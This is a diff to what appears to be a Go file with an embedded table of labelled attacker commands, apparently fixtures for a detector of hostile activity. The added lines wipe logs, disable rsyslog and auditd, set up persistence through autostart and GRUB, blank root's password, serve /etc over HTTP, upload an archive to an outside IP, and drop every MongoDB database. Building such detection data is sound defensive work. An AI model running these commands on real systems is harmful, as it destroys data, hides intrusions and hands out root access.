@@ -277,6 +277,19 @@ data_destroyed|/bin/rm -rf /var/backups /backup
 redis_made_to_write|/usr/bin/redis-cli -h h module load /tmp/exp.so
 sensitive_file_linked|/bin/ln -s / /var/log/host/root_link
 system_tool_renamed|/bin/cp /bin/sh /tmp/crond
+logs_wiped|/bin/bash -c "echo 0> /var/spool/mail/root"
+logs_wiped|/bin/mount --bind /dev/null /root/.bash_history
+defences_switched_off|/sbin/chkconfig rsyslog off
+defences_switched_off|/bin/mv /usr/sbin/auditd /usr/sbin/auditd.bak
+defences_switched_off|/sbin/iptables -A OUTPUT -p tcp --dport 514 -j DROP
+service_made_by_command|/bin/sh -c "echo x > ~/.config/autostart/u.desktop"
+service_made_by_command|/bin/sed -i "s#GRUB_CMDLINE_LINUX=#&init=/opt/init#" /etc/default/grub
+user_added_with_rights|/bin/sed -i s/^root:x:/root::/ /etc/passwd
+passwords_sniffed|/sbin/ip link set eth0 promisc on
+file_sent_out|/usr/bin/php -S 0.0.0.0:8000 -t /etc
+file_sent_out|/usr/bin/lftp -c "open -u x,y 198.51.100.7; put /tmp/l.tgz"
+shell_by_helper|/sbin/capsh --gid=0 --uid=0 --
+data_destroyed|/usr/bin/mongosh --eval "db.getMongo().getDBNames().forEach(n=>db.getSiblingDB(n).dropDatabase())"
 `
 
 func process(line string) []byte {
